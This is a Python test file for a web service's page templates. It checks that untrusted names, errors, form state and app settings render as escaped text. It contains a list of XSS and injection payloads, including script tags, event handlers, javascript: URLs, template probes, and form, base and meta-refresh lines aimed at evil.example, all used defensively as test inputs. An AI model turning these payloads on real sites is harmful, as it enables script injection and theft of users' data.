"""Text from strangers stays text: from requests (A9, A10), from upstreams (G13) and from app settings (G14)."""

from __future__ import annotations

from collections.abc import Mapping

import pytest
from hypothesis import given
from hypothesis import strategies as st

from broker.web.http.policy import form_target, safe_href
from broker.web.pages.pages import Pages
from broker.web.pages.templates import BUILT_IN
from broker.web.pages.views import EnterView, FormPostView, ReturnView
from tests.web.page_samples import (
    LOCALES,
    PERSON,
    Outline,
    every_page,
    make_client,
    make_consent,
    make_error,
    make_login,
    make_pages,
    make_person,
    read,
)

VECTORS = (
    "<script>alert(1)</script>",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script/src=//evil.example/x.js>",
    "<<script>alert(1)//<</script>",
    "<img src=x onerror=alert(1)>",
    '"><img src=x onerror=alert(1)>',
    "'onfocus=alert(1) autofocus='",
    '"onfocus=alert(1) autofocus="',
    "` onmouseover=alert(1) `",
    "x onclick=alert(1)",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert&#40;1)</script>",
    "<math><mi xlink:href=javascript:alert(1)>x",
    "<iframe src=javascript:alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<form action=https://evil.example><input name=ticket>",
    "<button formaction=https://evil.example>x",
    "<base href=https://evil.example>",
    '<meta http-equiv=refresh content="0;url=https://evil.example">',
    "<link rel=stylesheet href=https://evil.example>",
    "<style>*{background:url(https://evil.example)}</style>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "//evil.example/",
    "/\\evil.example/",
    "https://evil.example\\@shop.example.com",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#x22;&#x3e;&#x3c;script&#x3e;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "{{ 7*7 }}{% raw %}",
    "{{ ''.__class__.__mro__ }}",
    "%(app)s %s %n %%",
    "\u2028alert(1)\u2029",
    "\x00<script>alert(1)</script>",
    "\u202e<b>evil</b>",
)
Harmless = tuple[Outline, str]
HREF = frozenset({"href", "src", "action", "formaction"})


def shape(page: Outline) -> list[tuple[str, list[str]]]:
    """Elements and the names of their attributes: what an injection would change."""
    return [(tag, sorted(attrs)) for tag, attrs in page.tags if tag not in {"a", "img"}]


def addresses(page: Outline) -> list[str]:
    return [value for _, attrs in page.tags for name, value in attrs.items() if name in HREF]


def test_there_are_vectors_enough() -> None:
    assert len(set(VECTORS)) >= 40


@pytest.fixture(scope="module")
def pages() -> Pages:
    return make_pages()


@pytest.fixture(scope="module")
def harmless(pages: Pages) -> Mapping[str, Harmless]:
    """What every page looks like with a harmless word in all places; in Russian, so that translation takes part."""
    return {
        name: (read(answer), answer.headers["content-security-policy"])
        for name, answer in every_page(pages, "ru", "harmless")
    }


@pytest.mark.parametrize("vector", VECTORS)
def test_g13_g14_hostile_text_changes_no_element_of_any_page(
    pages: Pages, harmless: Mapping[str, Harmless], vector: str
) -> None:
    for name, answer in every_page(pages, "ru", vector):
        page, (usual, policy) = read(answer), harmless[name]
        assert page.wrong == [], name
        assert shape(page) == shape(usual), name
        assert {tag for tag, _ in page.tags} <= {tag for tag, _ in usual.tags} | {"a", "img"}, name
        assert not [1 for _, attrs in page.tags for attribute in attrs if attribute.startswith("on")], name
        assert all(safe_href(href) == href for href in addresses(page) if href), name
        assert answer.headers["content-security-policy"] == policy, name


@pytest.mark.parametrize("vector", VECTORS)
def test_a9_form_post_sends_hostile_state_back_as_it_came(pages: Pages, vector: str) -> None:
    view = FormPostView("https://shop.example.com:8443/cb?x=1", {"state": vector}, make_client())
    answer = pages.show(view, "en")
    page = read(answer)
    assert [field["value"] for field in page.found("input")] == [vector]
    assert vector not in bytes(answer.body).decode() or not set(vector) & set("<>\"'&")
    assert "form-action https://shop.example.com:8443;" in answer.headers["content-security-policy"]
    assert len(page.found("script")) == 1


@pytest.mark.parametrize("vector", VECTORS)
def test_a10_error_pages_show_hostile_text_as_text(pages: Pages, vector: str) -> None:
    answer = pages.show(make_error("E-CLIENT", vector), "en")
    assert vector not in bytes(answer.body).decode() or not set(vector) & set("<>\"'&")
    assert " ".join(vector.split()) in read(answer).text
    assert all("evil" not in value and "alert" not in value for value in answer.headers.values())


@pytest.mark.parametrize("vector", VECTORS)
def test_g13_a_hostile_name_is_shown_as_a_name(pages: Pages, vector: str) -> None:
    consent = pages.show(make_consent(vector), "ru")
    enter = pages.show(EnterView(make_client(), make_person(vector), "", "t", "/enter/x/y"), "ru")
    for answer in (consent, enter):
        assert " ".join(vector.split()) in read(answer).text
        assert len(read(answer).found("form")) == 1


@given(st.text(max_size=40))
def test_g14_any_app_name_is_shown_as_it_is(name: str) -> None:
    page = read(_PAGES.show(make_login(name), "en"))
    assert page.wrong == []
    assert len(page.found("a")) <= 8


_PAGES = make_pages()


@pytest.mark.parametrize(
    "href",
    ["/authorize?a=1", "https://shop.example.com", "http://[::1]:80/x", "com.example.app:/cb", "mailto:a@example.com"],
)
def test_a_link_may_lead_to_our_paths_the_web_mail_and_native_apps(href: str) -> None:
    assert safe_href(href) == href


@pytest.mark.parametrize(
    "href",
    [
        "", "javascript:alert(1)", "JAVASCRIPT:alert(1)", "data:text/html,x", "vbscript:x", "//evil.example", "/\\evil",
        "https:evil", "https://", "https:///x", "https://a@evil.example", "x", "?a=1", "#a", "/a b", "/a\nb", "file:///x",
        "blob:https://x", "view-source:https://x",
    ],
)  # fmt: skip
def test_a_link_leads_nowhere_else(href: str) -> None:
    assert safe_href(href) == ""


@pytest.mark.parametrize(
    ("action", "source"),
    [
        ("https://shop.example.com/cb", "https://shop.example.com"),
        ("https://shop.example.com:8443?x=;script-src", "https://shop.example.com:8443"),
        ("http://127.0.0.1:5000/cb", "http://127.0.0.1:5000"),
        ("http://[::1]:5000/cb", "http:"),
        ("com.example.app:/cb", "com.example.app:"),
    ],
)
def test_a9_a_form_may_be_sent_to_one_origin(action: str, source: str) -> None:
    assert form_target(action) == source


@pytest.mark.parametrize("action", ["/cb", "", "javascript:alert(1)", "https://a;b/", "https://a b/"])
def test_a9_a_form_without_a_clear_target_is_not_made(action: str) -> None:
    with pytest.raises(ValueError, match="target"):
        form_target(action)


def test_the_return_page_is_not_made_for_an_address_that_runs_script(pages: Pages) -> None:
    with pytest.raises(ValueError, match="absolute"):
        pages.show(ReturnView("javascript:alert(1)", make_client()), "en")


class _Isolated(Outline):
    """Reads like a browser, and remembers the text outside of `bdi`."""

    def handle_data(self, data: str) -> None:
        if "bdi" not in self._open:
            self.words.append(data)


@pytest.mark.parametrize("locale", LOCALES)
def test_d22_a_name_of_a_person_stands_in_an_element_of_its_own_direction_on_every_page(locale: str) -> None:
    shown = set()
    for title, answer in every_page(make_pages(), locale):
        outline = _Isolated()
        outline.feed(bytes(answer.body).decode())
        assert PERSON not in "".join(outline.words), title
        assert not [tag for tag, attrs in outline.tags if any(PERSON in value for value in attrs.values())], title
        shown |= {title.split()[0].rstrip(",")} if f"<bdi>{PERSON}</bdi>" in bytes(answer.body).decode() else set()
    speaking = {path.stem for path in BUILT_IN.rglob("*.html") if ".person" in path.read_text(encoding="utf-8")}
    assert {name.partition("_")[0] for name in speaking} == shown, "a page that names people has no sample that does"
